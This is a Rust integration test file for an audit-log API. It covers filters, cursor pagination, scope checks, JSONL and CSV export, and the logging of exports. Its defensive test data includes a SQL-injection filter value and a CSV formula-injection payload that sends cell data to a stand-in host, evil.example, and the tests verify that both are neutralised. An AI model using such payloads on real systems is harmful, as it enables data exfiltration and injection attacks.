//! Reading the audit log.

use std::time::Duration;

use latchkey_domain::AuditKind;
use serde_json::{Value, json};

use super::actors::Program;
use crate::support::{on_each_database, people::*};

fn kinds(list: &Value) -> Vec<&str> {
    list["audit_events"].as_array().unwrap().iter().map(|event| text(&event["kind"])).collect()
}

async fn create(program: &Program<'_>, name: &str) -> Value {
    let body = json!({ "email": format!("{name}@example.com"), "first_name": name, "last_name": "" });
    program.post("/users", &body).send().await.ok()
}

on_each_database! {
    async fn the_log_is_found_by_each_filter_and_read_to_the_letter(app: TestApp) {
        let (reader, writer) = (app.program("audit:read").await, app.program("users:write").await);
        let ada = create(&writer, "ada").await;
        let id = text(&ada["_id"]);
        app.clock.advance(Duration::from_secs(60));
        writer.put(&format!("/users/{id}"), &json!({ "first_name": "Augusta" })).send().await.ok();
        create(&writer, "bob").await;

        let list = async |query: &str| reader.get(&format!("/audit-events?{query}")).send().await.ok();
        let changed = list("kind=user.updated").await;
        let event = &changed["audit_events"][0];
        assert_eq!(changed, json!({ "audit_events": [{
            "id": event["id"],
            "at": event["at"],
            "kind": "user.updated",
            "actor": { "kind": "program", "id": "users-write" },
            "target": { "kind": "user", "id": id },
            "user_id": id,
            "organization_id": null,
            "client_id": "users-write",
            "ip": "",
            "user_agent": "",
            "request_id": event["request_id"],
            "before": { "first_name": "ada" },
            "after": { "first_name": "Augusta" },
            "detail": {},
        }], "next_cursor": null }));
        let one = reader.get(&format!("/audit-events/{}", text(&event["id"]))).send().await.ok();
        assert_eq!(&one, event);
        for nothing in ["019b76da000070008000000000000001", "x", "%00"] {
            reader.get(&format!("/audit-events/{nothing}")).send().await.refused(404, "not_found");
        }

        let created = ["user.created", "user.created"];
        for (query, found) in [
            ("actor=users-write".to_owned(), &["user.created", "user.updated", "user.created"][..]),
            ("actor=users-write&kind=user.created".to_owned(), &created),
            ("kind=user.created,user.updated&limit=1".to_owned(), &["user.created"]),
            (format!("target={id}"), &["user.updated", "user.created"]),
            (format!("user={id}&to=2026-01-01T00:00:30Z"), &["user.created"]),
            (format!("user={id}&from=2026-01-01T00:00:30Z"), &["user.updated"]),
            ("application=users-write&kind=user.updated".to_owned(), &["user.updated"]),
            (format!("organization={id}"), &[]),
            ("actor=%00".to_owned(), &[]),
            ("actor=' OR 1=1 --".replace(' ', "%20"), &[]),
        ] {
            assert_eq!(kinds(&list(&query).await), found, "{query}");
        }
        for (query, field) in [
            ("kind=user.exploded", "kind"),
            ("user=ada", "user"),
            ("organization=x", "organization"),
            ("from=yesterday", "from"),
            ("to=2026-01-01", "to"),
            ("limit=0", "limit"),
            ("cursor=x", "cursor"),
        ] {
            let problem = reader.get(&format!("/audit-events?{query}")).send().await.refused(422, "invalid_input");
            assert_eq!(problem["field"], field);
        }
    }

    async fn a_page_of_the_log_goes_on_where_the_one_before_it_ended(app: TestApp) {
        let (reader, writer) = (app.program("audit:read users:read").await, app.program("users:write").await);
        for name in ["a", "b", "c", "d", "e"] {
            create(&writer, name).await;
        }
        let first = reader.get("/audit-events?kind=user.created&limit=2").send().await.ok();
        let cursor = text(&first["next_cursor"]);
        // What happens meanwhile shifts nothing.
        create(&writer, "f").await;
        let names = |page: &Value| -> Vec<String> {
            let events = page["audit_events"].as_array().unwrap().iter();
            events.map(|event| text(&event["after"]["first_name"]).to_owned()).collect()
        };
        let path = format!("/audit-events?kind=user.created&limit=9&cursor={cursor}");
        let rest = reader.get(&path).send().await.ok();
        assert_eq!((names(&first), names(&rest)), (vec!["e".into(), "d".into()], vec!["c".into(), "b".into(), "a".into()]));
        // Of another list, and in another program's hands.
        let other = app.program("audit:read users:write").await;
        for call in [
            reader.get(&format!("/audit-events?cursor={cursor}")),
            reader.get(&format!("/users?cursor={cursor}")),
            other.get(&path),
        ] {
            assert_eq!(call.send().await.refused(422, "invalid_input")["field"], "cursor");
        }
    }

    async fn the_log_takes_its_own_scope(app: TestApp) {
        let program = app.program("users:read users:write organizations:write applications:write").await;
        for path in ["/audit-events", "/audit-events/x", "/audit-events/export", "/audit-events/export?format=csv"] {
            let path = path.replace("/x", "/019b76da000070008000000000000001");
            let refused = program.get(&path).send().await.refused(403, "insufficient_scope");
            assert_eq!(refused["scope"], "audit:read");
        }
    }

    async fn the_whole_log_is_exported_without_formulas(app: TestApp) {
        let (reader, writer) = (app.program("audit:read").await, app.program("users:write").await);
        // More than a page of it.
        for n in 0..510 {
            app.services().people.create(
                &crate::support::OPERATOR,
                latchkey_domain::services::NewPerson {
                    email: format!("p{n}@example.com").parse().unwrap(),
                    first_name: n.to_string(),
                    last_name: String::new(),
                    attributes: Default::default(),
                    tell: false,
                },
                &app.request(),
            ).await.unwrap();
        }
        let evil = "=HYPERLINK(\"http://evil.example/\"&A1)";
        let body = json!({ "email": "eve@example.com", "first_name": "=1+1", "last_name": "" });
        writer.post("/users", &body).header("user-agent", evil).send().await.ok();

        let answer = reader.get("/audit-events/export?kind=user.created").send().await;
        assert_eq!(answer.header("content-type"), "application/jsonl");
        assert!(answer.header("content-disposition").contains("audit.jsonl"));
        let lines: Vec<Value> = answer.text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(lines.len(), 511);
        let ids: std::collections::BTreeSet<&str> = lines.iter().map(|line| text(&line["id"])).collect();
        assert_eq!(ids.len(), 511);
        assert_eq!(lines[0]["user_agent"], evil, "JSON has no formulas");

        let answer = reader.get("/audit-events/export?kind=user.created&format=csv").send().await;
        assert!(answer.header("content-type").starts_with("text/csv"));
        assert_eq!(answer.text.split("\r\n").count(), 513, "a head, and an empty end");
        assert!(answer.text.starts_with("id,at,kind,actor_kind,"), "{}", &answer.text[..100]);
        let first = answer.text.split("\r\n").nth(1).unwrap();
        assert!(first.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\","), "{first}");
        reader.get("/audit-events/export?format=xlsx").send().await.refused(422, "invalid_input");
    }

    async fn who_takes_the_log_and_what_of_it_is_in_the_log(app: TestApp) {
        let reader = app.program("audit:read").await;
        let id = "019b76da000070008000000000000001";
        let endless = "x".repeat(2000);
        let all = [
            ("kind", "user.updated,user.created,user.created"),
            ("actor", &*endless),
            ("target", "a passkey"),
            ("user", id),
            ("organization", id),
            ("application", "shop"),
            ("from", "2026-01-01T00:00:00Z"),
            ("to", "2026-02-01T00:00:00Z"),
        ];
        let all = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(all).finish();
        for query in ["format=csv&kind=user.created", "", &all] {
            app.clock.advance(Duration::from_millis(1));
            let taken = reader.get(&format!("/audit-events/export?{query}")).send().await;
            assert_eq!(taken.status, 200, "{}", taken.text);
        }
        let refused = reader.get("/audit-events/export?kind=user.exploded").send().await;
        refused.refused(422, "invalid_input");
        let told = reader.get(&format!("/audit-events?kind={}", AuditKind::AuditExported)).send().await;
        assert!(!told.text.contains(&reader.token), "{}", told.text);
        let told = told.ok();
        let told = told["audit_events"].as_array().unwrap();
        for event in told {
            assert_eq!(event["actor"], json!({ "kind": "program", "id": "audit-read" }));
            assert_eq!(event["target"]["kind"], "everybody");
        }
        let filters: Vec<&Value> = told.iter().map(|event| &event["detail"]).collect();
        let whole = json!({
            "kind": "user.created,user.updated",
            "actor": "x".repeat(255),
            "target": "a passkey",
            "user": id,
            "organization": id,
            "application": "shop",
            "from": "2026-01-01T00:00:00Z",
            "to": "2026-02-01T00:00:00Z",
        });
        assert_eq!(filters, [&whole, &json!({}), &json!({ "kind": "user.created" })]);
    }
}
